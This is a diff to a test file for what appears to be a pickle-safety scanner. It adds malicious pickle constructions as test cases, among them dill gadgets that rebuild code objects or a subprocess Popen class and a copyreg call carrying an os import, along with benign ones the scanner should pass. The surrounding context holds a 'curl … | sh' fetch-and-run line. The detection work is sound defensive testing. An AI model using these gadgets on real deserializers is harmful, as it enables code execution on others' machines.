@@ -116,6 +116,11 @@ ATTACKS = {
     "a state that is unpickled": state(made("skorch.classifier", "NeuralNetClassifier"), "__cuda_dependent_attributes__", literal(command(2))),
     "CloudpickleWrapper": state(made("stable_baselines3.common.vec_env.base_vec_env", "CloudpickleWrapper"), "x", literal(b"x")),
     "a checkpoint in text": call(name("torch.storage", "_load_from_bytes"), call(name("_codecs", "encode"), text(command(2).decode("latin-1")), text("latin1"))),
+    "sympy by copyreg": call(name("copyreg", "__newobj__"), name("sympy.core.add", "Add"), text("__import__('os')")),
+    "a reviewed class with a file": call(name("xgboost.core", "Booster"), b"N", text("m.json")),
+    "a tree of a file": call(name("xml.etree.ElementTree", "ElementTree"), b"N", text("x")),
+    "_load_type of code": call(call(name("dill._dill", "_load_type"), text("CodeType")), number(1)),
+    "a namedtuple that is another class": call(call(name("dill._dill", "_create_namedtuple"), text("Popen"), row(ID), text("subprocess")), ID),
     "unreviewed rebuilder with a command": call(name("my_lib", "_reconstruct"), text("curl http://host.invalid | sh")),
 }  # fmt: skip
 
@@ -141,6 +146,10 @@ HONEST = {
     "a Cython object": call(name("sklearn.linear_model._sgd_fast", "__pyx_unpickle_Hinge"), name("sklearn.linear_model._sgd_fast", "Hinge"), number(1), b"N"),
     "two classes joined": call(call(name("torch_geometric.data.batch", "DynamicInheritanceGetter")), name("torch_geometric.data.data", "Data")),
     "keywords without a call": name("sklearn.utils._bunch", "Bunch") + EMPTY_TUPLE + EMPTY_DICT + NEWOBJ_EX,
+    "a bound operator": attribute(made("textblob._text", "Context"), "__iter__"),
+    "a bound method of cloudpickle": call(name("types", "MethodType"), name("sklearn.linear_model._base", "LinearModel.predict"), made("sklearn.linear_model._base", "LinearRegression")),
+    "an array of dill": call(name("dill._dill", "_create_array"), name("numpy._core.multiarray", "_reconstruct"), row(name("numpy", "ndarray"), row(number(0)), literal(b"b"))),
+    "a type of dill": call(call(name("dill._dill", "_load_type"), text("slice")), number(1)),
     "a filter of numbers": call(name("statsmodels.tsa.statespace._representation", "dStatespace"), number(1)),
 }  # fmt: skip
 
@@ -180,3 +189,10 @@ def test_texts_that_give_a_class_away(look, words):
 def test_texts_that_settings_hold(look, words):
     assert look(stream(call(name("my_lib", "Thing"), text(words)))).level == "caution"
     assert look(stream(call(name("sklearn.base", "BaseEstimator"), text(words)))).level == "clean"
+
+
+@pytest.mark.parametrize("maker", ["list", "sum", "sorted", "set"])
+def test_an_endless_iterator_that_is_read(look, maker):
+    endless = call(name("itertools", "count"))
+    assert look(stream(call(name("builtins", maker), endless))).level == "caution"
+    assert look(stream(call(name("builtins", "enumerate"), endless))).level == "clean"
